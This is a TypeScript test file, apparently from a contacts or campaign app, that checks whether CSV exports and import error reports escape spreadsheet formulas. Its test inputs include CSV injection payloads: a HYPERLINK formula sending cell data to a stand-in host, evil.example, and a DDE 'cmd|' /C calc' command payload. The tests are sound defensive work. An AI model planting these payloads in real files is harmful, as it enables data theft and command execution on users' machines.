import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../src/contacts/csv-field.ts';
import { type CampaignHarness, startCampaignCoxcox } from '../campaigns/campaign-harness.ts';
import { testDatabases } from '../support/databases.ts';

// OWASP "CSV Injection": a cell that starts with =, +, -, @, tab or carriage return is run as a formula
// by spreadsheets; a leading apostrophe (inside a quoted cell) makes it text.
describe('CSV exports defuse formulas (issue 10)', () => {
  it.each([
    [
      '+1+HYPERLINK("https://evil.example/?x="&A1,"click")',
      `"'+1+HYPERLINK(""https://evil.example/?x=""&A1,""click"")"`,
    ],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['=SUM(A1:A9)', `"'=SUM(A1:A9)"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['-', `"'-"`],
    ['Ana Souza', 'Ana Souza'],
    ['Souza, Ana', '"Souza, Ana"'],
  ])('%j becomes %j', (text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  it('writes numbers it computed as they are', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(null)).toBe('');
  });
});

const [database] = await testDatabases();

describe('the import error report defuses formulas in rejected rows', () => {
  let harness: CampaignHarness;
  beforeAll(async () => {
    harness = await startCampaignCoxcox(database!);
  });
  afterAll(async () => harness?.coxcox.dispose());

  it('escapes a rejected row that starts with +digit or -digit', async () => {
    const shown = await harness.importFile(
      ['phone,name', '+1+HYPERLINK("https://evil.example"),x', "-2+3+cmd|' /C calc'!A0,y", ''].join('\r\n'),
    );
    expect(shown.invalid).toBe(2);
    const report = await harness.api('GET', `/imports/${shown.id}/errors.csv`);
    const cells = report.body
      .trim()
      .split('\r\n')
      .slice(1)
      .map((line) => line.slice(line.lastIndexOf(',"') + 1));
    expect(cells).toEqual([`"'+1+HYPERLINK(""https://evil.example""),x"`, `"'-2+3+cmd|' /C calc'!A0,y"`]);
  });
});
